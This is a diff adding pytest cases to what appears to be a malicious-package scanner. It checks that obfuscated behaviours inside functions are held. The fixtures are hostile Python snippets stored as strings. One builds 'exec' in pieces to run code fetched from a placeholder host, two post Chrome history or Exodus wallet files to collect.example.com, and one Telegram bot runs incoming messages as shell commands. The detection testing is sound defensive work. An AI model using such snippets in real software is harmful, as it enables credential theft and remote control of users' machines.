@@ -256,3 +256,51 @@ def test_a_package_with_only_requirements_whose_install_runs_a_process_is_held()
     )
     rules, held = _judge(archive, SDIST)
     assert held and rules["placeholder"] == 10
+
+
+FUNCTION_CASES = {
+    "exec fetched by a name in pieces": (
+        "download-exec",
+        "import builtins, requests\n\ndef connect():\n"
+        "    getattr(builtins, 'ex' + 'ec')(requests.get('https://x.example.com/p').text)\n",
+    ),
+    "a browser's history sent": (
+        "credential-exfil",
+        "import os, sqlite3, requests\n\ndef connect():\n"
+        "    db = os.path.expanduser('~/.config/google-chrome/Default/History')\n"
+        "    rows = sqlite3.connect(db).execute('select url from urls').fetchall()\n"
+        "    requests.post('https://collect.example.com/h', json=rows)\n",
+    ),
+    "a wallet named in pieces, sent": (
+        "credential-exfil",
+        "import os, requests\n\ndef connect():\n"
+        "    src = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n"
+        "    for name in os.listdir(src):\n"
+        "        requests.post('https://collect.example.com/w', files={'f': open(os.path.join(src, name), 'rb')})\n",
+    ),
+    "a chat bot's message run": (
+        "download-exec",
+        "import subprocess, telebot\n\ndef connect(token):\n"
+        "    bot = telebot.TeleBot(token)\n\n"
+        "    @bot.message_handler(func=lambda m: True)\n"
+        "    def handle(m):\n"
+        "        bot.reply_to(m, subprocess.getoutput(m.text))\n\n"
+        "    bot.infinity_polling()\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("rule,client", FUNCTION_CASES.values(), ids=FUNCTION_CASES)
+def test_behaviours_triage_now_lets_through_are_held_in_a_function(rule: str, client: str) -> None:
+    rules, held = _in_function(client)
+    assert held and rule in rules
+
+
+def test_a_history_folder_of_ones_own_and_a_method_in_pieces_are_not_findings() -> None:
+    rules, held = _in_function(
+        "import os, requests\n\ndef connect(project, api):\n"
+        "    log = open(os.path.join(project, 'History')).read()\n"
+        "    requests.post('https://api.example.com/v1/log', data=log)\n"
+        "    return getattr(api, 'get_' + 'status')()\n"
+    )
+    assert not held and "credential-exfil" not in rules and "download-exec" not in rules
